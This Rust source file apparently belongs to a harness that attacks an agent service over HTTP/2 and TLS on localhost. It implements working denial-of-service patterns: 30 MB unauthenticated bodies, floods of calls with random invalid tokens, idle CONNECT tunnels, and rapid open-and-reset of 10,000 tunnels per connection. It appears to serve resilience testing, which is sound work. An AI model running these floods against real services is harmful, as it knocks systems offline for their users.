//! Calls of the packet protocol over TLS, and tunnels of the CONNECT port, in HTTP/2.

use std::convert::Infallible;
use std::future::poll_fn;
use std::io;
use std::net::SocketAddr;
use std::sync::Arc;

use bytes::Bytes;
use futures_util::future::join_all;
use h2::Reason;
use h2::client::SendRequest;
use http::{HeaderValue, Method, Request};
use rustls::ClientConfig;
use tokio::io::{AsyncRead, AsyncWrite};
use tokio::task::JoinSet;
use tokio_rustls::TlsConnector;

use super::{Attacker, Crowd, noise};

/// Path of an agent's call.
const CONNECT: &str = "https://localhost/AgentService/Connect";

/// Size of one piece of a body, in bytes.
const PIECE: usize = 16 << 10;

/// Size of the body that a connection sends, in bytes.
const BODY: usize = 30 << 20;

/// Number of tunnels that a connection opens and resets before the attack continues with another connection.
const RESETS: usize = 10_000;

/// Calls of an agent without a valid token.
#[derive(Debug, Clone)]
pub(crate) struct Calls {
    /// TLS configuration, which must offer `h2`.
    pub tls: Arc<ClientConfig>,
    /// Number of calls on a connection.
    pub streams: usize,
    /// Length of each token, in characters. Each call has another token.
    pub token: usize,
}

impl Attacker {
    /// Makes one call on each connection, with a body of 30 MB and an invalid token.
    pub(crate) async fn unauthenticated_bodies(
        &self,
        to: SocketAddr,
        tls: &Arc<ClientConfig>,
        crowd: Crowd,
    ) -> Infallible {
        let tls = Arc::clone(tls);
        self.crowd(crowd, move |attacker| {
            let tls = Arc::clone(&tls);
            async move {
                let (mut requests, _driver) = attacker.tls(to, tls).await?;
                let (_response, mut body) =
                    requests.send_request(call(64)?, false).map_err(broken)?;
                let piece = Bytes::from(vec![7; PIECE]);
                let mut left = BODY;
                while left > 0 {
                    body.reserve_capacity(PIECE);
                    let window = poll_fn(|cx| body.poll_capacity(cx)).await;
                    let Some(window) = window.transpose().map_err(broken)? else {
                        break;
                    };
                    let part = piece.slice(..window.min(PIECE));
                    attacker.sent(part.len());
                    left = left.saturating_sub(part.len());
                    body.send_data(part, false).map_err(broken)?;
                }
                std::future::pending().await
            }
        })
        .await
    }

    /// Makes calls without a body and with invalid tokens, and waits for all answers of a connection.
    pub(crate) async fn calls(&self, to: SocketAddr, calls: &Calls, crowd: Crowd) -> Infallible {
        let calls = calls.clone();
        self.crowd(crowd, move |attacker| {
            let calls = calls.clone();
            async move {
                let (mut requests, _driver) = attacker.tls(to, calls.tls).await?;
                let mut answers = Vec::new();
                let mut bodies = Vec::new();
                for _ in 0..calls.streams {
                    requests = requests.ready().await.map_err(broken)?;
                    let sent = requests.send_request(call(calls.token)?, false);
                    let (answer, body) = sent.map_err(broken)?;
                    attacker.sent(calls.token);
                    answers.push(answer);
                    bodies.push(body);
                }
                // An answer of any kind ends a call.
                join_all(answers).await;
                Ok(())
            }
        })
        .await
    }

    /// Opens tunnels to `authority`, up to `streams` on each connection, and sends nothing.
    pub(crate) async fn tunnels(
        &self,
        to: SocketAddr,
        authority: &str,
        streams: usize,
        crowd: Crowd,
    ) -> Infallible {
        let authority = authority.to_owned();
        self.crowd(crowd, move |attacker| {
            let authority = authority.clone();
            async move {
                let stream = attacker.connect(to).await?;
                let (mut requests, _driver) = http2(stream).await?;
                let mut held = Vec::new();
                for _ in 0..streams {
                    requests = requests.ready().await.map_err(broken)?;
                    let sent = requests.send_request(tunnel(&authority)?, false);
                    held.push(sent.map_err(broken)?);
                }
                std::future::pending().await
            }
        })
        .await
    }

    /// Opens tunnels to `authority` and resets each at once.
    pub(crate) async fn resets(&self, to: SocketAddr, authority: &str, crowd: Crowd) -> Infallible {
        let authority = authority.to_owned();
        self.crowd(crowd, move |attacker| {
            let authority = authority.clone();
            async move {
                let stream = attacker.connect(to).await?;
                let (mut requests, _driver) = http2(stream).await?;
                for _ in 0..RESETS {
                    requests = requests.ready().await.map_err(broken)?;
                    let sent = requests.send_request(tunnel(&authority)?, false);
                    let (_answer, mut body) = sent.map_err(broken)?;
                    body.send_reset(Reason::CANCEL);
                    attacker.sent(authority.len());
                    // Lets the driver send the reset.
                    tokio::task::yield_now().await;
                }
                Ok(())
            }
        })
        .await
    }

    async fn tls(
        &self,
        to: SocketAddr,
        tls: Arc<ClientConfig>,
    ) -> io::Result<(SendRequest<Bytes>, JoinSet<()>)> {
        let stream = self.connect(to).await?;
        let name = "localhost".try_into().map_err(io::Error::other)?;
        let stream = TlsConnector::from(tls).connect(name, stream).await?;
        http2(stream).await
    }
}

/// Starts HTTP/2. Dropping the set closes the connection.
async fn http2<S>(stream: S) -> io::Result<(SendRequest<Bytes>, JoinSet<()>)>
where
    S: AsyncRead + AsyncWrite + Unpin + Send + 'static,
{
    let (requests, connection) = h2::client::handshake(stream).await.map_err(broken)?;
    let mut driver = JoinSet::new();
    driver.spawn(async move {
        // The calls on the connection report its end.
        connection.await.ok();
    });
    Ok((requests, driver))
}

/// Returns the call of an agent with a random token.
fn call(token: usize) -> io::Result<Request<()>> {
    let token: String = noise(token)
        .iter()
        .map(|byte| char::from(b'a' + byte % 26))
        .collect();
    let bearer = HeaderValue::try_from(format!("Bearer {token}")).map_err(io::Error::other)?;
    let request = Request::post(CONNECT)
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("agentid", "attacker")
        .header("agentidentifiers", "")
        .header("authorization", bearer);
    request.body(()).map_err(io::Error::other)
}

fn tunnel(authority: &str) -> io::Result<Request<()>> {
    let request = Request::builder().method(Method::CONNECT).uri(authority);
    request.body(()).map_err(io::Error::other)
}

fn broken(error: h2::Error) -> io::Error {
    io::Error::other(error)
}
